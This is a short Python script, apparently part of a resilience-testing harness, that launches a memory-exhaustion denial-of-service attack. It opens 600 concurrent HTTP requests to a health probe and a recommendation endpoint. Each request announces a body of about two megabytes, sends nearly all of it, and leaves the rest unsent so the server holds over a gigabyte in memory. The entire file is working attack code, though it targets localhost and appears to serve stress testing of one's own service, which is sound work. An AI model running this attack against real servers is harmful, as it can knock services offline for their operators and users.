"""Send all but the end of 600 bodies of two megabytes.

Half of them go to a probe, which needs no key and no body, and half to a route that reads bodies. A server that holds
each of them in memory while it waits for the end holds more than a gigabyte.
"""

from attacker import Attacker, run

ANNOUNCED, SENT = 1_990_000, 1_980_000


async def attack(attacker: Attacker) -> None:
    key = b"" if attacker.options.key is None else b"Authorization: Bearer %s\r\n" % attacker.options.key.encode()
    headers = b"Host: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n" % ANNOUNCED
    body = b" " * SENT

    async def client(number: int) -> None:
        if number % 2:
            await attacker.occupy(b"GET /healthz HTTP/1.1\r\n" + headers + b"\r\n" + body)
        else:
            await attacker.occupy(b"POST /v1/recommend HTTP/1.1\r\n" + headers + key + b"\r\n" + body)

    await attacker.gather(600, client)


if __name__ == "__main__":
    run(attack)
